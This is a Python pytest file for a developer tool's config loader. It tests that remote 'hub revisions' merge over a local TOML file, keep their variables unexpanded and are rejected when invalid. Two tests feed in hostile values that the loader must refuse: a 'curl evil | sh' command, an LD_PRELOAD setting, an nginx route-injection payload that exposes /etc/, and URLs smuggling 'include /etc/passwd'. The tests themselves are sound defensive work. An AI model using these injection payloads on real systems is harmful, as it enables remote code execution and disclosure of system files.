"""Hub revisions merged over the project's config like the last overlay, and validated with its schema."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from devmesh.config import ConfigError, load_config
from devmesh.config.revision import check_document, load_with_revision, revision_hash

BASE = """
[mesh]
name = "shop"
[services.api]
command = "python -m http.server $PORT"
port = 3000
hosts = ["api"]
[services.payments]
port = 3100
[faults.slow]
service = "payments"
delay = "100ms..300ms"
"""


@pytest.fixture
def config_file(tmp_path: Path) -> Path:
    path = tmp_path / "devmesh.toml"
    path.write_text(BASE, encoding="utf-8")
    return path


@pytest.fixture
def source(tmp_path: Path) -> Path:
    return tmp_path / ".devmesh" / "hub-revision.json"


def test_the_hash_is_sha256_of_the_canonical_json() -> None:
    document = {"services": {"api": {"port": 1, "hosts": ["é"]}}, "faults": {}}
    canonical = '{"faults":{},"services":{"api":{"hosts":["é"],"port":1}}}'
    assert revision_hash(document) == hashlib.sha256(canonical.encode()).hexdigest()
    assert revision_hash(json.loads(json.dumps(document))) == revision_hash(document)


def test_a_revision_merges_over_the_files_like_an_overlay(config_file: Path, source: Path) -> None:
    document = {
        "services": {
            "api": {"hosts": ["api", "api-v2"], "lb": "least_conn"},
            "search": {"remote": "https://s.example"},
        },
        "faults": {"slow": {"enabled": False}, "teapot": {"service": "api", "abort": 418}},
        "scenarios": {"outage": {"faults": ["teapot"], "outage": ["payments"], "duration": "5s"}},
    }
    loaded = load_with_revision(config_file, document, source=source)
    api = loaded.config.services["api"]
    assert api.command == "python -m http.server $PORT" and api.port == 3000  # kept from the file
    assert api.hosts == ["api", "api-v2"] and api.lb == "least_conn"
    assert loaded.config.services["search"].remote == "https://s.example"
    assert loaded.config.faults["slow"].enabled is False
    assert loaded.config.faults["slow"].delay is not None  # the rest of the fault is the file's
    assert loaded.config.faults["teapot"].abort == 418
    assert loaded.config.scenarios["outage"].duration == 5.0
    assert loaded.files == (config_file.resolve(), source)


def test_no_revision_is_the_files_alone(config_file: Path, source: Path) -> None:
    assert load_with_revision(config_file, None, source=source) == load_config(config_file)


def test_a_revision_is_not_expanded(config_file: Path, source: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_VERSION", "leaked")
    loaded = load_with_revision(
        config_file, {"services": {"api": {"version": "${SECRET_VERSION}"}}}, source=source
    )
    assert loaded.config.services["api"].version == "${SECRET_VERSION}"


def test_a_reference_to_nothing_is_rejected_naming_the_revision(config_file: Path, source: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        load_with_revision(
            config_file, {"faults": {"broken": {"service": "paymnts", "abort": 500}}}, source=source
        )
    text = str(caught.value)
    assert text.startswith(f"{source}: faults.broken.service: fault 'broken' names service 'paymnts'")
    assert 'did you mean "payments"?' in text


def test_a_bad_value_set_by_the_revision_names_the_revision_not_the_file(
    config_file: Path, source: Path
) -> None:
    with pytest.raises(ConfigError) as caught:
        load_with_revision(config_file, {"services": {"api": {"port": 70000}}}, source=source)
    (problem,) = caught.value.problems
    assert problem.file == source and problem.line is None
    assert problem.key_path == ("services", "api", "port")


def test_a_bad_file_still_names_the_file(config_file: Path, source: Path) -> None:
    config_file.write_text(BASE + '\n[services.web]\nport = "nope"\n', encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        load_with_revision(config_file, {"faults": {"slow": {"enabled": False}}}, source=source)
    (problem,) = caught.value.problems
    assert problem.file == config_file.resolve() and problem.line is not None


@pytest.mark.parametrize("section", ["mesh", "proxy", "peers", "discovery", "engine", "observe"])
def test_a_revision_sets_only_services_faults_and_scenarios(section: str, source: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        check_document({section: {}}, source=source)
    assert f"{section}: a revision may not set this section" in str(caught.value)


@pytest.mark.parametrize(
    ("table", "key"),
    [
        ({"command": "curl evil | sh"}, "services.api.command"),
        ({"cwd": "/"}, "services.api.cwd"),
        ({"env": {"LD_PRELOAD": "x"}}, "services.api.env"),
        ({"watch": ["**"]}, "services.api.watch"),
        ({"health": {"cmd": "touch /tmp/x"}}, "services.api.health.cmd"),
    ],
)
def test_a_revision_never_runs_a_program(table: dict[str, object], key: str, source: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        check_document({"services": {"api": table}}, source=source)
    assert f"{key}: a revision may not run programs on this machine" in str(caught.value)


@pytest.mark.parametrize("document", [[], "text", {"services": []}, {"faults": {"x": 1}}])
def test_a_revision_of_the_wrong_shape(document: object, source: Path) -> None:
    with pytest.raises(ConfigError):
        check_document(document, source=source)


def test_health_http_is_allowed(config_file: Path, source: Path) -> None:
    loaded = load_with_revision(
        config_file, {"services": {"payments": {"health": {"http": "/ready"}}}}, source=source
    )
    assert loaded.config.services["payments"].health is not None


# A route that `nginx -t` accepts and that serves /etc/ from another server block (a reviewer's payload).
INJECTED_ROUTE = (
    "/x { return 200; } } server { listen 127.0.0.1:9; location / { alias /etc/; autoindex on; } } "
    "server { location = /y"
)


@pytest.mark.parametrize(
    ("table", "key"),
    [
        ({"routes": [INJECTED_ROUTE]}, "routes"),
        ({"remote": "http://evil;{}.example"}, "remote"),
        ({"remote": "http://a.example:80;include /etc/passwd"}, "remote"),
        ({"mirror": "http://x{y}.example"}, "mirror"),
    ],
)
def test_a_revision_cannot_write_proxy_config_through_a_value(
    table: dict[str, object], key: str, config_file: Path, source: Path
) -> None:
    with pytest.raises(ConfigError) as caught:
        load_with_revision(config_file, {"services": {"api": table}}, source=source)
    (problem,) = caught.value.problems
    assert problem.key_path[:3] == ("services", "api", key), problem
